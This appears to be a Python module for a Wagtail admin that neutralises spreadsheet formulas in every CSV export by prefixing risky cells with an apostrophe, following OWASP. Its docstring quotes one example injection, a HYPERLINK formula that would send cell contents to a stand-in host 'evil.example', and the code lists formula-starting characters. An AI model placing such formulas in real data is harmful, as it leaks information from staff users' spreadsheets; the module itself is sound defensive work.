"""Every CSV export of the admin opens in a spreadsheet as text: no cell starts a formula.

Search queries partners type, titles, names and reasons editors type all end up in CSV
exports (the admin's listings and reports, ours and Wagtail's own, e.g. site history).
A cell such as ``=HYPERLINK("http://evil.example/?"&A1,"Price list")`` would run as a
formula when a staff user opens the file. Wagtail turns formulas into text in its XLSX
exports only; :func:`install` does it for CSV, in the one place every CSV row is written
(``SpreadsheetExportMixin.preprocess_field_value``, for CSV), so no export can be left out.
"""

from decimal import Decimal

from wagtail.admin.views.mixins import SpreadsheetExportMixin

#: What makes Excel, LibreOffice or Google Sheets read a cell as a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """A text cell that could start a formula, with a leading ``'`` (OWASP); numbers stay numbers."""
    if value is None or isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else value


_wagtail_preprocess_field_value = SpreadsheetExportMixin.preprocess_field_value


def _preprocess_field_value(self, field, value, export_format):
    value = _wagtail_preprocess_field_value(self, field, value, export_format)
    return neutralise_formula(value) if export_format == self.FORMAT_CSV else value


def install() -> None:
    """Make every CSV export write its cells through :func:`neutralise_formula` (called once, at start-up)."""
    SpreadsheetExportMixin.preprocess_field_value = _preprocess_field_value
